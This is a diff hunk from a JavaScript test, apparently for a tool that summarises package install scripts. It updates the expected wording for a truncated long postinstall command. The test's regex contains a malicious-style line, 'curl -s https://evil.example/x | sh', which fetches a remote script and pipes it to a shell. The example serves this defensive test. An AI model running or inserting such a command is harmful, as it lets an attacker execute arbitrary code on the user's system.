@@ -377,7 +377,7 @@ test('shows both ends of a long install script where there is little room', () =
   ])
   const [long] = lineOf(`${quiet} ${'x'.repeat(1_000)} && ${evil}`) ?? []
   expect(long).toMatch(
-    /^Wants to run during the install: “postinstall: node .* … .* && curl -s https:\/\/evil\.example\/x \| sh”\./,
+    /^Runs during the install, .*: “postinstall: node .* … .* && curl -s https:\/\/evil\.example\/x \| sh”$/,
   )
   expect(long?.length).toBeLessThan(460)
 })
